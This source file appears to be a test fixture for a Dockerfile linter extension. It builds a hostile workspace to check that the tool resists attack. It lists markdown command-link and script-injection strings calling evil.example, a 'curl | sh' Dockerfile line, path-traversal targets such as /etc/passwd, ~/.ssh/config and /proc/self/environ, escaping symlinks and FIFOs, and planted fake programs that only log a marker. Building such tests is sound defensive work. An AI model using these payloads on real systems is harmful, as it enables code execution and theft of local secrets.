import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

/** Stands in every file that must not be read, as something that a message would quote. */
export const SECRET = 'TOP_SECRET_7F3A';

/** Texts that would do something if anybody took them for more than text. All of them name `evil`. */
export const hostileTexts: readonly string[] = [
  '[free](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22evil%22%7D)',
  '![pixel](https://evil.example/pixel.png)',
  '<img/src="https://evil.example/p.png"/onerror=alert(1)>',
  '<a/href="command:evil">x</a>',
  '<https://evil.example/auto>',
  'https://evil.example/bare',
  'www.evil.example',
  'someone@evil.example',
  '[evil]:https://evil.example/reference',
  '](command:evil)',
  '`](command:evil)`',
  '``](command:evil)',
  '\\`[x](command:evil)\\`',
  '</code></pre><script>fetch("https://evil.example")</script>',
  '&lt;evil&gt;&#60;script&#62;',
  'vscode://evil/run',
  'file://evil.example/share',
  '~~~[x](command:evil)',
  '|[x](command:evil)|',
  '$(zap)evil',
];

/** A Dockerfile that has a text wherever a Dockerfile can have text. */
export function hostileDockerfile(text: string): string {
  const quoted = JSON.stringify(text);
  return [
    `# ${text}`,
    `# syntax=${text}`,
    `ARG BASE=${quoted}`,
    `FROM ${text} AS ${text}`,
    `FROM --platform=${text} alpine:${text}`,
    `FROM node:latest AS build`,
    `# ${text}`,
    `# dockwright ignore=${text} -- ${text}`,
    `# hadolint ignore=${text}`,
    `ARG ${text}=${quoted}`,
    `ARG UNUSED=${quoted}`,
    `ENV KEY=${quoted} PASSWORD=${quoted} ${text}=x`,
    `LABEL maintainer=${quoted} ${quoted}=${quoted} org.opencontainers.image.url=${quoted}`,
    `MAINTAINER ${text}`,
    `WORKDIR ${text}`,
    `RUN cd ${quoted} && apt-get install ${text} && curl ${quoted} | sh && echo $UNDEFINED$KEY`,
    `RUN --mount=type=${text},target=${text} --evil=${text} pip install ${text}`,
    'RUN <<EVIL',
    text,
    'EVIL',
    `COPY --from=${text} --chown=${text} ${text} ${text}`,
    `ADD ${text} /x`,
    `ADD https://evil.example/${text} /x`,
    `USER ${text}`,
    `EXPOSE ${text}`,
    `VOLUME [${quoted}]`,
    `STOPSIGNAL ${text}`,
    `SHELL [${quoted}]`,
    `HEALTHCHECK --interval=${text} CMD ${text}`,
    `ONBUILD ${text} ${text}`,
    `${text} ${text}`,
    `ENTRYPOINT [${quoted}, ${text}]`,
    `CMD ${text} $KEY`,
    '',
  ].join('\n');
}

/** Ways out of the workspace, as `extends` may name them. */
const waysOut: readonly string[] = [
  '/etc/passwd',
  '../outside/secret.yaml',
  '../../../../../../../../../etc/passwd',
  'sub/../../outside/secret.yaml',
  '~/.ssh/config',
  'https://evil.example/x.yaml',
  'file:///etc/passwd',
  'file://evil.example/share/x.yaml',
  '//evil.example/share/x.yaml',
  '\\\\evil.example\\share\\x.yaml',
  '/dev/zero',
  '/dev/stdin',
  '/proc/self/environ',
  'pipe.yaml',
  'link.yaml',
  'linked/secret.yaml',
  'up/outside/secret.yaml',
  'dockwright.yaml',
  '[evil](command:evil)',
];

const programs = ['shellcheck', 'hadolint', 'docker', 'git', 'node', 'sh', 'rg'];

export interface HostileWorkspace {
  readonly folder: string;
  /** What the planted programs and modules write when they run. */
  readonly mark: string;
  /** A planted program. */
  readonly program: string;
  /** The settings that the workspace would like to have. */
  readonly settings: Readonly<Record<string, unknown>>;
}

/**
 * Fills a folder with a workspace that wants programs to be run, the network to be reached, files elsewhere to be read and
 * people to be misled, and files beside it that it is after.
 * @param top an empty folder
 */
export function writeHostileWorkspace(top: string): HostileWorkspace {
  const folder = join(top, 'workspace');
  const mark = join(top, 'mark');
  const write = (path: string, text: string | Uint8Array): void => {
    mkdirSync(dirname(join(top, path)), { recursive: true });
    writeFileSync(join(top, path), text);
  };
  for (const name of ['secret.yaml', 'Dockerfile', '.dockerignore', '.gitignore', 'dockwright.yaml']) {
    write(`outside/${name}`, `${SECRET}: ${SECRET}\n`);
  }
  // A configuration above the opened folder is outside of it, too.
  write('dockwright.yaml', `${SECRET}: ${SECRET}\n`);

  for (const [index, text] of hostileTexts.entries()) write(`workspace/${index}/Dockerfile`, hostileDockerfile(text));
  write('workspace/Dockerfile', hostileTexts.map(hostileDockerfile).join('\n'));
  write('workspace/bytes/Dockerfile', new Uint8Array([0x46, 0x52, 0x4f, 0x4d, 0x20, 0xff, 0xfe, 0x0a]));
  write('workspace/.dockerignore', `${hostileTexts.flatMap((text) => [text, `!${text}`, `# ${text}`]).join('\n')}\n`);
  const extended = waysOut.map((way) => `  - ${JSON.stringify(way)}\n`).join('');
  const rules = hostileTexts.map((text) => `  ${JSON.stringify(text)}: ${JSON.stringify(text)}\n`).join('');
  write('workspace/dockwright.yaml', `extends:\n${extended}profile: "[evil](command:evil)"\nrules:\n${rules}`);
  write('workspace/0/.hadolint.yaml', `ignored: ${JSON.stringify(hostileTexts)}\n`);
  const names = [
    '[evil](command:evil)',
    '<img src=x onerror=evil>',
    '$(zap) evil',
    'evil\nbreak',
    '100%25 #?evil',
    '-rf',
    '🐳',
  ];
  for (const name of names) {
    write(`workspace/${name}/Dockerfile`, hostileDockerfile('evil'));
    write(`workspace/${name}/dockwright.yaml`, 'extends: ../../outside/secret.yaml\n');
  }

  for (const place of ['workspace', 'workspace/node_modules/.bin']) {
    for (const name of programs) {
      write(`${place}/${name}`, `#!/bin/sh\necho "$0" >> ${JSON.stringify(mark)}\n`);
      chmodSync(join(top, place, name), 0o755);
    }
  }
  const script = `require('node:fs').appendFileSync(${JSON.stringify(mark)}, __filename);\n`;
  for (const name of ['index.js', 'node_modules/vscode-languageserver/index.js', 'node_modules/unbash/index.js']) {
    write(`workspace/${name}`, script);
  }
  write('workspace/package.json', JSON.stringify({ main: 'index.js', scripts: { postinstall: 'touch mark' } }));
  const program = join(folder, 'shellcheck');
  const settings = {
    configFile: '../outside/secret.yaml',
    shellcheck: { enable: true, path: program },
    workspace: { include: ['../**', '**'], exclude: ['!../outside'], limit: 1e9 },
    rules: { '[evil](command:evil)': 'error' },
    profile: 'strict',
  };
  write(
    'workspace/.vscode/settings.json',
    JSON.stringify(Object.fromEntries(Object.entries(settings).map(([key, value]) => [`dockwright.${key}`, value]))),
  );

  const links: Readonly<Record<string, string>> = {
    'Dockerfile.out': '../outside/Dockerfile',
    'Dockerfile.passwd': '/etc/passwd',
    'Dockerfile.zero': '/dev/zero',
    'link.yaml': '../outside/secret.yaml',
    linked: '../outside',
    up: '..',
    '3/.dockerignore': '../../outside/.dockerignore',
    '3/.gitignore': '../../outside/.gitignore',
    '3/dockwright.yaml': '../../outside/dockwright.yaml',
  };
  for (const [path, target] of Object.entries(links)) symlinkSync(target, join(folder, path));
  const pipes = ['pipe.yaml', 'Dockerfile.pipe', '4/dockwright.yaml', '4/.dockerignore'];
  const made = spawnSync('mkfifo', pipes, { cwd: folder });
  if (made.status !== 0) throw new Error(`mkfifo: ${made.stderr}`);
  return { folder, mark, program, settings };
}
